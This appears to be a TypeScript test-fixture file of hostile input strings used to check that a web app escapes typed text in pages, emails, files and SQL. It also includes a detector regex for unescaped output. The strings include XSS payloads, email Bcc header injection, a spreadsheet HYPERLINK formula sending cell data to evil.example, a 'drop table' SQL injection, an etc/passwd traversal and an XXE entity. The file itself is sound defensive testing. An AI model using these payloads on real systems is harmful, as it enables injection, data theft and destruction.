/** Texts that try to break a screen, an email, a file or a statement, named by what they try. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'an element and the end of an attribute': `Ŋq" onmouseover="ŋq()" '><zq-tag onload=ŋq()>&amp;<!--`,
  'closing tags': '</script></style></title></textarea><zq-tag>ŋ',
  'a javascript: address': 'javascript:ŋq()//ŋq',
  'a data: address': 'data:text/html,<zq-tag>ŋq',
  'template syntax': `Ŋq {{7*7}} \${7*7} <%= 7 %> $& $\` [ŋ](javascript:ŋq()) \`ŋ\``,
  'a header': 'Ŋq\r\nBcc: ngq@evil.example\r\n\r\nŋq',
  'a header after unusual line breaks': 'Ŋq\u0085Bcc: ngq@evil.example\u2028Bcc: ŋq\u2029Bcc: ŋq\u000bBcc: ŋq',
  'a null byte': 'Ŋq\0ŋq and more text',
  'terminal escapes': 'Ŋq \u001b[31mŋq\u0007 \u009b31m',
  'a formula': '=HYPERLINK("https://evil.example/?q="&A1,"ŋq")',
  'the end of a statement, and patterns': "Ŋq'; drop table reviews; -- \\' \" $1 %_ * (a|b) ^ & :*",
  'lone surrogates': 'Ŋq \ud800 ŋq \udc00 ŋq ŋq \ud83d',
  'reversed text': 'Ŋq \u202egnp.exe\u2066 ŋq \u2069\u200f \u2067ŋq ŋq',
  'invisible characters': 'Ŋ\u200bq\ufeff \u2060ŋq\u00ad ŋq\u180e ŋq',
  'only blank characters': '\u3164\u3164\u115f\u200b\u2800\u3164',
  'stacked accents': `Ŋq ŋ${'\u0301\u0489'.repeat(150)}q ŋq`,
  'four-byte characters': 'Ŋq 👩‍👩‍👧‍👦 𠮷 𝒵 🇦🇺 👍🏽 ❤️ 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} ŋ',
  'one four-byte character': '😀',
  'four of them': '😀😀😀😀',
  'many of them': '😀'.repeat(15),
  'eighty characters, the last with four bytes': `${'ŋq'.repeat(39)}ŋ😀`,
  'a hundred and twenty of them': `${'ŋq '.repeat(39)}ŋq😀`,
  'three thousand of them': `${'ŋq '.repeat(999)}ŋq😀`,
  'private and invalid characters': 'Ŋq \ue000 \uffff \u{10ffff} \ufffe ŋq',
  'a very long word': 'ŋq'.repeat(1500),
  'a very long text': 'ŋq '.repeat(20_000),
  'a path upwards': '../../..\\..\\etc/passwd%00ŋq',
  'a reserved name': '__proto__',
  'JSON and XML': '{"ŋq":"<!DOCTYPE x [<!ENTITY ŋ SYSTEM \\"file:///\\">]>&ŋ;"}',
  'two addresses': 'ngq@mail.example,"ŋq\r\nBcc:x"@evil.example',
};

/** Occurs in each of these texts, but in none of ours and in no token. */
export const trace = /[ŋŊ]/;

/** A harmless text, to find out whether a field is stored at all. */
export const plainText = 'Ŋq ŋq';

/** The texts to try for values that are looked up or chosen, and never stored. */
export const hostileNames: Readonly<Record<string, string>> = Object.fromEntries(
  [
    'the end of a statement, and patterns',
    'a null byte',
    'lone surrogates',
    'reversed text',
    'a header',
    'one four-byte character',
    'a very long text',
    'a reserved name',
    'two addresses',
  ].map((name) => [name, hostileTexts[name]!]),
);

/** Patterns that must not occur unescaped in a document or an email. The `data:` of the tab's icon is ours. */
const raw =
  /<\/?zq-tag|<svg\/onload|<!ENTITY|(?<!\\)" onmouseover="|href="\s*javascript:|(?<!<link rel="icon" type="image\/svg\+xml" )href="\s*data:|src="\s*javascript:/i;

/** The part of a document that contains typed text unescaped; undefined if it is harmless. */
export function rawPlaceIn(html: string): string | undefined {
  const found = raw.exec(html);
  return found ? html.slice(Math.max(0, found.index - 120), found.index + 120) : undefined;
}

/** The faults of a page: it failed, shows typed text unescaped, or has unreadable data. */
export function faultsOfDocument({ statusCode, body }: { statusCode: number; body: string }): string[] {
  const raw = rawPlaceIn(body);
  const data = [...body.matchAll(/<script[^>]*type="application\/(?:ld\+)?json"[^>]*>(.*?)<\/script>/gs)];
  return [
    ...(statusCode >= 500 || body.includes('Oops!') ? [`answered ${statusCode}`] : []),
    ...(raw ? [`holds ${raw}`] : []),
    ...data
      .filter(([, text]) => !isJson(text!))
      .map(([, text]) => `holds data that cannot be read: ${text!.slice(0, 200)}`),
  ];
}

function isJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

/** Words that reveal internals. */
export const insides =
  /violates|relation "|column "|syntax error|invalid byte|unterminated|ECONN|SQL|undefined|\bTypeError|Cannot read propert|\.ts\b|node_modules|Something went wrong/i;
